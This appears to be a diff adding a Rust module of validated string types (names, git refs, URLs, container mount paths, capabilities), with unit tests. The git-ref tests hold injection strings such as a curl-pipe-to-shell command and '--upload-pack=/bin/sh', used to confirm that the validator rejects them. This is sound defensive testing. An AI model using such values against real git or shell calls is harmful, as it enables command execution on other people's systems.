@@ -1,0 +1,377 @@
+//! Validated string newtypes: values that have a shape (names, git refs, URLs, mount paths,
+//! capabilities). Each checks its shape when converted from a document, and exposes the same
+//! check as a function so the compiler can re-run it on substituted values.
+
+use crate::convert::{Cx, FromNode};
+use crate::diagnostic::{Diagnostic, codes};
+use crate::node::Node;
+use std::borrow::Cow;
+
+/// Why a value does not have the shape it needs.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ShapeError {
+    /// Stable diagnostic code.
+    pub code: &'static str,
+    /// What is wrong.
+    pub message: String,
+    /// How to fix it.
+    pub help: Option<String>,
+}
+
+impl ShapeError {
+    fn new(code: &'static str, message: impl Into<String>) -> Self {
+        Self {
+            code,
+            message: message.into(),
+            help: None,
+        }
+    }
+
+    fn help(mut self, help: impl Into<String>) -> Self {
+        self.help = Some(help.into());
+        self
+    }
+
+    /// This problem as a diagnostic at `node`.
+    pub fn into_diagnostic(self, node: &Node) -> Diagnostic {
+        let d = Diagnostic::error(self.code, self.message).at(node.loc);
+        match self.help {
+            Some(h) => d.with_help(h),
+            None => d,
+        }
+    }
+}
+
+/// A value that may hold `${{ vars.X }}` and is then checked only after substitution.
+fn is_templated(value: &str) -> bool {
+    value.contains("${{")
+}
+
+macro_rules! shaped_string {
+    (
+        $(#[doc = $doc:literal])*
+        $name:ident, check = $check:path, templated = $templated:literal, schema = $schema:tt
+    ) => {
+        $(#[doc = $doc])*
+        #[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize)]
+        #[serde(transparent)]
+        pub struct $name(String);
+
+        impl $name {
+            /// Checks `value` and wraps it.
+            pub fn new(value: impl Into<String>) -> Result<Self, ShapeError> {
+                let value = value.into();
+                $check(&value)?;
+                Ok(Self(value))
+            }
+
+            /// The text.
+            pub fn as_str(&self) -> &str {
+                &self.0
+            }
+        }
+
+        impl std::ops::Deref for $name {
+            type Target = str;
+            fn deref(&self) -> &str {
+                &self.0
+            }
+        }
+
+        impl FromNode for $name {
+            fn from_node(node: &Node, cx: &mut Cx<'_>) -> Option<Self> {
+                let value = String::from_node(node, cx)?;
+                if $templated && cx.defer_templated && is_templated(&value) {
+                    return Some(Self(value));
+                }
+                match $check(&value) {
+                    Ok(()) => Some(Self(value)),
+                    Err(e) => {
+                        cx.report(e.into_diagnostic(node));
+                        None
+                    }
+                }
+            }
+        }
+
+        impl schemars::JsonSchema for $name {
+            fn schema_name() -> Cow<'static, str> {
+                stringify!($name).into()
+            }
+            fn json_schema(_: &mut schemars::SchemaGenerator) -> schemars::Schema {
+                let description = concat!($($doc, "\n",)* "").trim();
+                let mut schema = schemars::json_schema!($schema);
+                schema.insert("description".into(), description.into());
+                schema
+            }
+        }
+    };
+}
+
+shaped_string! {
+    /// A name of one segment: a lowercase letter, then up to 38 lowercase letters, digits or
+    /// `-`, ending with a letter or digit; no `--`.
+    Name, check = check_name, templated = false,
+    schema = { "type": "string", "pattern": "^[a-z](?:[a-z0-9]|-(?!-)){0,38}[a-z0-9]$" }
+}
+
+shaped_string! {
+    /// A git branch, tag or commit: `[A-Za-z0-9_][A-Za-z0-9._/+-]{0,254}`, without `..`, not
+    /// ending in `.lock` or `/`. May hold `${{ vars.NAME }}`; checked after substitution.
+    GitRef, check = check_git_ref, templated = true,
+    schema = { "type": "string", "maxLength": 255 }
+}
+
+shaped_string! {
+    /// An `https://` URL of at most 256 characters. May hold `${{ vars.NAME }}`; checked after
+    /// substitution.
+    HttpsUrl, check = check_https_url, templated = true,
+    schema = { "type": "string", "maxLength": 256 }
+}
+
+shaped_string! {
+    /// A URL or image reference of at most 256 characters, without white space. May hold
+    /// `${{ vars.NAME }}`; checked after substitution.
+    Url, check = check_url, templated = true,
+    schema = { "type": "string", "minLength": 1, "maxLength": 256 }
+}
+
+shaped_string! {
+    /// An absolute, clean path (no `..`, `//` or trailing `/`) outside the reserved system
+    /// paths (`/proc`, `/workspace`, `/var/run`, ...).
+    MountPath, check = check_mount_path, templated = false,
+    schema = { "type": "string", "pattern": "^/", "maxLength": 256 }
+}
+
+shaped_string! {
+    /// A Linux capability name without the `CAP_` prefix (`NET_ADMIN`), or `ALL`.
+    Capability, check = check_capability, templated = false,
+    schema = { "type": "string", "pattern": "^(ALL|[A-Z][A-Z0-9_]{0,29})$" }
+}
+
+/// Checks one name segment (upstream `NameMain`).
+pub fn check_name(value: &str) -> Result<(), ShapeError> {
+    let bytes = value.as_bytes();
+    let ok = (2..=40).contains(&bytes.len())
+        && bytes[0].is_ascii_lowercase()
+        && bytes
+            .iter()
+            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || *b == b'-')
+        && bytes.last().is_some_and(|b| *b != b'-')
+        && !value.contains("--");
+    if ok {
+        Ok(())
+    } else {
+        Err(ShapeError::new(codes::NAME, format!("`{value}` is not a valid name")).help(
+            "use 2 to 40 lowercase letters, digits and single dashes, starting with a letter",
+        ))
+    }
+}
+
+/// Checks a resource name of at most `max_segments` dot-separated segments, each a valid
+/// [`Name`], at most 128 characters in all.
+pub fn check_resource_name(value: &str, max_segments: usize) -> Result<(), ShapeError> {
+    let segments = value.split('.').count();
+    if value.len() > 128 {
+        return Err(ShapeError::new(codes::NAME, "a name is at most 128 characters"));
+    }
+    if segments > max_segments {
+        return Err(ShapeError::new(
+            codes::NAME,
+            format!("`{value}` has {segments} dot-separated parts; at most {max_segments} are allowed here"),
+        ));
+    }
+    value.split('.').try_for_each(check_name)
+}
+
+/// Checks a git ref (upstream `checkGitRef`): safe to pass to git, no option injection.
+pub fn check_git_ref(value: &str) -> Result<(), ShapeError> {
+    if value.is_empty() {
+        return Ok(());
+    }
+    let bad = |why: &str| {
+        Err(ShapeError::new(codes::GIT_REF, format!("`{}` is not a valid git ref: {why}", value.escape_debug()))
+            .help("use a branch, tag or commit such as `main`, `v1.2.3` or `release/2026-01`"))
+    };
+    if value.len() > 255 {
+        return bad("longer than 255 characters");
+    }
+    let first = value.as_bytes()[0];
+    if !(first.is_ascii_alphanumeric() || first == b'_') {
+        return bad("it must start with a letter, digit or `_`");
+    }
+    if let Some(c) = value
+        .chars()
+        .find(|c| !(c.is_ascii_alphanumeric() || "._/+-".contains(*c)))
+    {
+        return bad(&format!("`{}` is not allowed", c.escape_debug()));
+    }
+    if value.contains("..") {
+        return bad("`..` is not allowed");
+    }
+    if value.ends_with(".lock") || value.ends_with('/') {
+        return bad("it must not end with `.lock` or `/`");
+    }
+    Ok(())
+}
+
+/// Checks a URL: non-empty, at most 256 characters, no white space or control characters.
+pub fn check_url(value: &str) -> Result<(), ShapeError> {
+    if value.is_empty() {
+        return Err(ShapeError::new(codes::URL, "the URL is empty"));
+    }
+    if value.len() > 256 {
+        return Err(ShapeError::new(codes::URL, "a URL is at most 256 characters"));
+    }
+    if value.chars().any(|c| c.is_whitespace() || c.is_control()) {
+        return Err(ShapeError::new(
+            codes::URL,
+            format!("`{}` is not a valid URL: it contains white space", value.escape_debug()),
+        ));
+    }
+    Ok(())
+}
+
+/// Checks an https URL with a host.
+pub fn check_https_url(value: &str) -> Result<(), ShapeError> {
+    check_url(value)?;
+    let Some(rest) = value.strip_prefix("https://") else {
+        return Err(ShapeError::new(
+            codes::URL,
+            format!("`{value}` is not an https URL"),
+        )
+        .help(match value.split_once("://") {
+            Some((_, rest)) => format!("use `https://{rest}`"),
+            None => format!("use `https://{value}`"),
+        }));
+    };
+    let host = rest.split(['/', '?', '#']).next().unwrap_or("");
+    let host = host.rsplit('@').next().unwrap_or(host);
+    if host.is_empty()
+        || !host
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-.:[]".contains(c))
+    {
+        return Err(ShapeError::new(codes::URL, format!("`{value}` has no valid host")));
+    }
+    Ok(())
+}
+
+/// Exact paths that may not be mount points.
+pub const RESERVED_MOUNT_PATHS: &[&str] = &[
+    "/", "/bin", "/boot", "/etc", "/lib", "/lib32", "/lib64", "/root", "/sbin", "/tmp", "/usr",
+    "/var", "/var/tmp", "/workspace",
+];
+/// Trees (the path and everything below) that may not be mount points.
+pub const RESERVED_MOUNT_TREES: &[&str] = &[
+    "/dev", "/octelium", "/proc", "/run", "/sys", "/var/lib/containers", "/var/lib/docker",
+    "/var/run", "/cordium-volumes",
+];
+
+/// Checks a volume mount path (upstream `CheckVolumeMountPath`).
+pub fn check_mount_path(value: &str) -> Result<(), ShapeError> {
+    let bad = |why: String| Err(ShapeError::new(codes::MOUNT_PATH, why));
+    if value.is_empty() {
+        return bad("the mount path is empty".into());
+    }
+    if value.len() > 256 {
+        return bad("a mount path is at most 256 characters".into());
+    }
+    if !value.starts_with('/') {
+        return Err(ShapeError::new(codes::MOUNT_PATH, format!("`{value}` is not an absolute path"))
+            .help(format!("use `/{}`", value.trim_start_matches(['.', '/']))));
+    }
+    if value.contains(['\\', '\0']) {
+        return bad(format!("`{}` contains `\\` or NUL", value.escape_debug()));
+    }
+    let clean = value.len() == 1
+        || (!value.ends_with('/')
+            && value[1..].split('/').all(|s| !s.is_empty() && s != "." && s != ".."));
+    if !clean {
+        return Err(ShapeError::new(codes::MOUNT_PATH, format!("`{value}` is not a clean path"))
+            .help("remove trailing `/`, `//`, `.` and `..`"));
+    }
+    if RESERVED_MOUNT_PATHS.contains(&value) {
+        return bad(format!("`{value}` is a reserved path"));
+    }
+    if let Some(tree) = RESERVED_MOUNT_TREES
+        .iter()
+        .find(|t| value == **t || value.strip_prefix(**t).is_some_and(|r| r.starts_with('/')))
+    {
+        return bad(format!("`{value}` is inside the reserved tree `{tree}`"));
+    }
+    Ok(())
+}
+
+/// Checks a capability name.
+pub fn check_capability(value: &str) -> Result<(), ShapeError> {
+    let b = value.as_bytes();
+    let ok = value == "ALL"
+        || (!b.is_empty()
+            && b.len() <= 30
+            && b[0].is_ascii_uppercase()
+            && b.iter().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || *c == b'_'));
+    if ok {
+        Ok(())
+    } else {
+        let mut e = ShapeError::new(codes::CAPABILITY, format!("`{value}` is not a capability name"));
+        let fixed = value.trim_start_matches("CAP_").trim_start_matches("cap_").to_ascii_uppercase();
+        if fixed != value && check_capability(&fixed).is_ok() {
+            e = e.help(format!("write `{fixed}`"));
+        } else {
+            e = e.help("use `ALL` or an upper-case name without `CAP_`, such as `NET_ADMIN`");
+        }
+        Err(e)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn git_refs_from_upstream_tests() {
+        let long = "a".repeat(300);
+        for ok in ["", "main", "master", "v1.2.3", "release/2026-01", "feature/JIRA-123_thing", "users/bob/wip", "9a1f0c4e2b7d8f6a3c5e1b9d7f2a4c6e8b0d2f4a", "HEAD", "1.0.0+build.7"] {
+            assert!(check_git_ref(ok).is_ok(), "{ok}");
+        }
+        for bad in ["main; curl http://x | sh", "main && id", "main`id`", "main$(id)", "main\nid", "main id", "main|id", "main>out", "main'x'", "main\"x\"", "main&", "-main", "--upload-pack=/bin/sh", "-o", "a..b", "..", "main.lock", "refs/heads/", long.as_str()] {
+            assert_eq!(check_git_ref(bad).map_err(|e| e.code), Err(codes::GIT_REF), "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn mount_paths_from_upstream_tests() {
+        for ok in ["/data", "/mnt/datasets", "/home/octelium/data", "/workspace-data", "/opt/models", "/var/lib/my-app", "/etc/my-app"] {
+            assert!(check_mount_path(ok).is_ok(), "{ok}");
+        }
+        let nuls = format!("/{}", "\0".repeat(300));
+        for bad in ["", "data", "./data", "../data", "/", "/data/", "/data/../etc", "/data//cache", "/proc", "/sys", "/dev", "/etc", "/usr", "/var", "/var/tmp", "/var/run", "/var/lib/docker", "/tmp", "/run", "/workspace", "/cordium-volumes", "/cordium-volumes/abc", "/proc/self", "/sys/fs/cgroup", "/dev/shm", "/run/octelium", "/var/run/octelium-proxy.sock", "/var/lib/docker/overlay", "/var/lib/containers/storage", "/octelium", "/octelium/workspace", "/data\\x", nuls.as_str()] {
+            assert_eq!(check_mount_path(bad).map_err(|e| e.code), Err(codes::MOUNT_PATH), "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn https_urls() {
+        assert!(check_https_url("https://github.com/example/example.git").is_ok());
+        for bad in ["http://example.com/example/example", "github.com/example/example", "https://", "https:// x"] {
+            assert!(check_https_url(bad).is_err(), "{bad}");
+        }
+        let e = check_https_url("http://example.com/a").expect_err("http");
+        assert_eq!(e.help.as_deref(), Some("use `https://example.com/a`"));
+    }
+
+    #[test]
+    fn capabilities_and_names() {
+        assert!(check_capability("NET_ADMIN").is_ok());
+        assert!(check_capability("ALL").is_ok());
+        let e = check_capability("cap_net_admin").expect_err("lower");
+        assert_eq!(e.help.as_deref(), Some("write `NET_ADMIN`"));
+        assert!(check_name("app1").is_ok());
+        for bad in ["a", "1app", "app-", "a--b", "App", &"a".repeat(41)] {
+            assert!(check_name(bad).is_err(), "{bad}");
+        }
+        assert!(check_resource_name("ml-env.research.jdoe", 3).is_ok());
+        assert!(check_resource_name("ml-env.research.jdoe", 2).is_err());
+    }
+}
